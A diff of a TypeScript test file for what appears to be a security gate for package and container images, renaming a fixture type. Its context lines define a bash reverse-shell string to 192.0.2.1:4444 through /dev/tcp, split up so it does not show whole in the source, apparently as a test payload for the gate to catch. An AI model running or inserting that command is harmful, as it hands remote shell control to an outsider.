@@ -5,14 +5,14 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vites
 import { digestOf } from '../../blobs/index.ts';
 import { parsePolicy } from '../../gate/index.ts';
 import { indexMediaType, manifestMediaType } from '../../images/index.ts';
-import { lodash, lodashAdvisory, openPlace, type Place, tarOf } from './guarded.fixture.ts';
+import { type GateFolder, lodash, lodashAdvisory, openPlace, tarOf } from './guarded.fixture.ts';
 
 const deadline = { timeout: 30_000, interval: 20 };
 const shell = `bash -c 'ba${''}sh -i >& /dev/t${''}cp/192.0.2.1/4444 0>&1'`;
 const key = generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
 const imageConfig = 'application/vnd.oci.image.config.v1+json';
 const layerType = 'application/vnd.oci.image.layer.v1.tar+gzip';
-let place: Place;
+let place: GateFolder;
 let count = 0;
 let repository: string;
 
